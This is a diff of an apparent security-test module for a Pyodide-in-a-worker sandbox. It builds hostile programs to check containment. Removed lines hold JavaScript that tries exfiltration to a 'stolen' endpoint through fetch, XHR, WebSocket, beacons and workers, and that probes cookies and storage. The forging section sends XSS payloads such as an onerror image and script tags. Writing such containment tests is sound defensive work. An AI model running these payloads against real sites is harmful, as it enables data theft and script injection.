@@ -4,6 +4,9 @@ Python hides JavaScript's global object from a program; `capture_this` of Pyodid
 all that JavaScript has in a worker. What holds them must therefore be the frame's origin and its policy.
 """
 
+import json
+from pathlib import Path
+
 # `this` is the worker's global object; the attack gets it when the program has ended
 GLOBAL = """
 import js
@@ -13,60 +16,20 @@ def with_global(attack):
     js.setTimeout(create_proxy(lambda this, *_: attack(this), capture_this=True), 0)
 """
 
-# In a worker of its own, which a blob starts; each attempt reports what came of it
-ATTACKS = r"""
-const url = ADDRESSES;
-const report = (name, outcome) => postMessage(name + ": " + outcome);
-const attempts = {
-  fetch: async (to) => (await fetch(to + "stolen?fetch", { mode: "no-cors" })).type,
-  xhr: (to) => new Promise((resolve, reject) => {
-    const x = new XMLHttpRequest(); x.open("GET", to + "stolen?xhr"); x.onload = () => resolve("loaded"); x.onerror = () => reject(new Error("error")); x.send();
-  }),
-  "xhr, at once": async (to) => { const x = new XMLHttpRequest(); x.open("GET", to + "stolen?sync", false); x.send(); return "loaded"; },
-  importScripts: async (to) => { importScripts(to + "stolen?scripts"); return "loaded"; },
-  import: async (to) => { await import(to + "stolen?import"); return "loaded"; },
-  WebSocket: (to) => new Promise((resolve, reject) => {
-    const w = new WebSocket(to.replace("http", "ws") + "stolen?ws"); w.onopen = () => resolve("open"); w.onerror = () => reject(new Error("error"));
-  }),
-  EventSource: (to) => new Promise((resolve, reject) => {
-    const s = new EventSource(to + "stolen?events"); s.onopen = () => resolve("open"); s.onerror = () => { s.close(); reject(new Error("error")); };
-  }),
-  Worker: (to) => new Promise((resolve, reject) => {
-    const w = new Worker(to + "stolen?worker"); w.onmessage = () => resolve("runs"); w.onerror = () => reject(new Error("error"));
-  }),
-  WebTransport: async (to) => { await new WebTransport(to.replace("http:", "https:") + "stolen?transport").ready; return "ready"; },
-  sendBeacon: async (to) => String(navigator.sendBeacon(to + "stolen?beacon")),
-  indexedDB: () => new Promise((resolve, reject) => { const r = indexedDB.open("x"); r.onsuccess = () => resolve("open"); r.onerror = () => reject(r.error); }),
-  caches: async () => { await caches.open("x"); return "open"; },
-  directory: async () => { await navigator.storage.getDirectory(); return "open"; },
-  localStorage: async () => String(localStorage),
-  locks: async () => { await navigator.locks.request("page", () => {}); return "held"; },
-  serviceWorker: async (to) => { await navigator.serviceWorker.register(to + "stolen?service"); return "registered"; },
-  cookies: async () => { await cookieStore.getAll(); return "read"; },
-  eval: async () => eval("'evaluated'"),
-  Function: async () => new Function("return 'evaluated'")(),
-};
-(async () => {
-  for (const [name, attempt] of Object.entries(attempts))
-    for (const to of attempt.length ? url : [""]) {
-      const late = new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 3000));
-      try { report(name, "GOT OUT, " + await Promise.race([attempt(to), late])); } catch (error) { report(name, "refused"); }
-    }
-  try { new BroadcastChannel("minigrad").postMessage("stolen"); } catch (error) { report("BroadcastChannel", "refused"); }
-  report("end", "of attempts");
-})();
-"""
+ATTACKS = Path(__file__).with_name("hostile.js")  # in a worker of its own, which a blob starts
 
 
 def reaching_out(*addresses: str) -> str:
     """A program that tries every way to a server, to storage, and to the page, with all of JavaScript."""
-    attacks = ATTACKS.replace("ADDRESSES", repr(list(addresses)))
-    return (
-        GLOBAL
-        + f"""
+    attacks = ATTACKS.read_text(encoding="utf-8").replace("ADDRESSES", json.dumps(addresses), 2)
+    return GLOBAL + REACHING_OUT.replace("ATTACKS", repr(attacks))
+
+
+REACHING_OUT = """
 def attack(this):
     from pyodide.ffi import to_js
-    blob = this.Blob.new(to_js([{attacks!r}]), to_js({{"type": "text/javascript"}}, dict_converter=js.Object.fromEntries))
+    kind = to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)
+    blob = this.Blob.new(to_js([ATTACKS]), kind)
     worker = this.Worker.new(this.URL.createObjectURL(blob))
     worker.onmessage = create_proxy(lambda event: print(event.data))
     worker.onerror = create_proxy(lambda event: print("end: no worker", event.message))
@@ -75,7 +38,6 @@ def attack(this):
 
 with_global(attack)
 """
-    )
 
 
 def by_python(address: str) -> str:
@@ -141,39 +103,43 @@ WRONG_SVG = (
 
 
 def forging(address: str) -> str:
-    """A program that sends messages of its own in place of ours: pictures with scripts, HTML, wrong types, a flood."""
-    return (
-        GLOBAL
-        + f"""
+    """A program that sends messages of its own in place of ours: pictures with scripts, HTML, wrong types."""
+    return GLOBAL + FORGING.replace("SVG", repr(WRONG_SVG.replace("ADDRESS", address)))
+
+
+FORGING = """
 import json
 from pyodide.ffi import to_js
 
-svg = {WRONG_SVG.replace("ADDRESS", address)!r}
+svg = SVG
 html = "<img src=x onerror='window.stolen=1'><script>window.stolen=1</script><b>bold</b>"
-event = {{"part": "forward", "words": html, "now": [], "set": {{"n0": {{"look": "plain"}}}}, "code": [0, 0, 1]}}
-words = dict.fromkeys("restart back play next step speed predict shown wrong waits picture check show field code label of "
-                      "forward backward end pause again empty right".split(), html)
-steps = {{"svg": svg, "prefix": "p", "events": [event, event], "code": [[html, 1, html]], "first": 0, "predict": False,
-         "lang": "en", "title": html, "rows": ["a", "b"], "words": words}}
+event = {"part": "forward", "words": html, "now": [], "set": {"n0": {"look": "plain"}}, "code": [0, 0, 1]}
+names = "restart back play next step speed predict shown wrong waits picture check show field code label of forward "
+words = dict.fromkeys((names + "backward end pause again empty right").split(), html)
+steps = {"svg": svg, "prefix": "p", "events": [event, event], "code": [[html, 1, html]], "first": 0, "predict": False}
+steps |= {"lang": "en", "title": html, "rows": ["a", "b"], "words": words}
+clinic = {"happened": html, "lines": [[html, html, html, 1]], "tensors": [[html, html]], "cures": [html]}
+forged = {
+    "picture": {"svg": svg, "alt": html},
+    "graph": {"names": [html], "chosen": html, "svg": svg, "alt": html, "steps": json.dumps(steps)},
+    "steps": {"steps": json.dumps(steps)},
+    "plot": {"name": "x", "png": "PHN2Zz4=", "alt": html, "width": html, "height": -1},
+    "ran": {"error": html, "name": html, "line": "1e9", "clinic": clinic | {"svg": svg, "alt": html}},
+}
 
 def attack(this):
     def post(**message):
         this.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
-    post(kind="text", text=html, error=True)
-    post(kind="picture", data=json.dumps({{"svg": svg, "alt": html}}))
-    post(kind="graph", data=json.dumps({{"names": [html], "chosen": html, "svg": svg, "alt": html, "steps": json.dumps(steps)}}))
-    post(kind="steps", data=json.dumps({{"steps": json.dumps(steps)}}))
-    post(kind="plot", data=json.dumps({{"name": "x", "png": "PHN2Zz4=", "alt": html, "width": html, "height": -1}}))
-    post(kind="ran", data=json.dumps({{"error": html, "name": html, "line": "1e9", "clinic": {{"happened": html,
-        "lines": [[html, html, html, 1]], "tensors": [[html, html]], "cures": [html], "svg": svg, "alt": html}}}}))
-    for data in (None, 3, "[", "null", "[]", '{{"steps": 3}}', '{{"steps": "{{"}}', '{{"names": 3}}', '{{"png": "%"}}'):
+    for data in (None, 3, "[", "null", "[]", '{"steps": 3}', '{"steps": "{"}', '{"names": 3}', '{"png": "%"}'):
         for kind in ("graph", "steps", "plot", "picture", "ran", "clear", "text", "stopped", "lost", "__proto__", None):
             post(kind=kind, data=data, text=data)
+    for kind, data in forged.items():
+        post(kind=kind, data=json.dumps(data))
+    post(kind="text", text=html, error=True)
     post(kind="text", text="forged all")
 
 with_global(attack)
 """
-    )
 
 
 FLOOD = (
